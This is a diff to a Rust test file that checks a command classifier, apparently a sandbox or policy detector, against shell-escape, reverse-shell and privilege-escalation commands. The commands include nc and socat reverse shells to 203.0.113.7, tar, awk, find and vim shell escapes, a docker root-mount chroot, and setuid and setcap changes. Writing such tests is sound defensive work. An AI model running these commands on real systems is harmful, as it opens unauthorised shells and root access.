@@ -74,20 +74,20 @@ fn credential_access() {
 fn programs_handed_a_shell_run_it() {
     for cmd in [
         "setarch x86_64 /bin/sh",
-        "cpulimit -l 100 -f /bin/sh",
-        "logsave /dev/null /bin/sh -i",
-        "systemd-run -t /bin/bash",
-        "bundle exec /bin/sh",
-        "npm exec /bin/sh",
-        "valgrind /bin/sh",
-        "screen -dm /bin/sh",
-        "tmux -c /bin/sh",
-        "capsh --",
-        "openvpn --dev null --script-security 2 --up '/bin/sh -c sh'",
-        "gem open -e '/bin/sh -c /bin/sh' rdoc",
-        "vi -c ':set shell=/bin/sh|:shell'",
-        "ed <<< '!/bin/sh'",
-        "ssh localhost $SHELL --noprofile --norc",
+        "cpulimit --limit=50 -f /usr/bin/zsh",
+        "logsave build.log /bin/bash -i",
+        "systemd-run --user --pty /bin/bash",
+        "bundle exec --keep-file-descriptors /bin/zsh -l",
+        "pnpm exec /bin/bash",
+        "valgrind --tool=memcheck /bin/dash",
+        "screen -S work -dm /bin/zsh",
+        "tmux new-session -s w /usr/bin/bash",
+        "capsh --caps=cap_net_raw+eip --",
+        "openvpn --config client.ovpn --script-security 2 --up '/bin/bash -c bash'",
+        "gem open -e '/bin/zsh -c /bin/zsh' rake",
+        "vim -c ':set shell=/bin/zsh|:sh' notes.md",
+        "ed -s todo.txt <<< '!/bin/bash'",
+        "ssh build01 $SHELL -l",
         "setarch x86_64 $SHELL -i",
     ] {
         attack(cmd, Effect::Shell);
@@ -217,17 +217,17 @@ fn shells_and_escape_hatches() {
         "nc -e /bin/sh 203.0.113.7 4444",
         "socat TCP:203.0.113.7:4444 EXEC:/bin/bash",
         "python3 -c 'import pty; pty.spawn(\"/bin/bash\")'",
-        "vim -c ':!/bin/sh'",
-        "find . -exec /bin/sh \\;",
-        "tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=/bin/sh",
-        "awk 'BEGIN {system(\"/bin/sh\")}'",
-        "PAGER='sh -c \"exec sh 0<&1\"' git -p log",
-        "env /bin/sh -i",
+        "nvim --headless -c ':!bash -i' README.md",
+        "find src -name '*.rs' -exec /bin/bash -i \\;",
+        "tar -czf out.tgz src --checkpoint=100 --checkpoint-action=exec='bash -i'",
+        "awk -v x=1 'END {system(\"/bin/bash -i\")}' data.csv",
+        "GIT_PAGER='bash -c \"exec bash 0<&1\"' git -p diff",
+        "env -i HOME=/tmp /bin/zsh -i",
         "script -q /dev/null -c /bin/bash",
-        "sqlite3 /dev/null '.shell /bin/sh'",
+        "sqlite3 app.db '.shell bash -i'",
         "docker run --rm -it --entrypoint /bin/sh alpine",
         "kubectl exec -it deploy/api -- /bin/bash",
-        "ssh -o ProxyCommand=';sh 0<&2 1>&2' x",
+        "ssh -o ProxyCommand='bash -c \"bash -i 0<&2 1>&2\"' build01",
     ] {
         attack(cmd, Effect::Shell);
     }
@@ -327,7 +327,7 @@ fn persistence_and_privilege() {
     attack("sudo chmod u+s /bin/bash", Effect::PrivilegeEscalation);
     attack("sudo -i", Effect::PrivilegeEscalation);
     attack(
-        "docker run -v /:/mnt --rm -it alpine chroot /mnt sh",
+        "docker run --rm -it -v /:/host ubuntu:24.04 chroot /host bash",
         Effect::PrivilegeEscalation,
     );
     attack("sudo -l", Effect::Recon);
@@ -336,7 +336,7 @@ fn persistence_and_privilege() {
         Effect::Persistence,
     );
     attack(
-        "sudo setcap cap_setuid+ep /usr/bin/python3",
+        "sudo setcap cap_setuid+ep /usr/local/bin/node",
         Effect::PrivilegeEscalation,
     );
     flows("crontab -l");
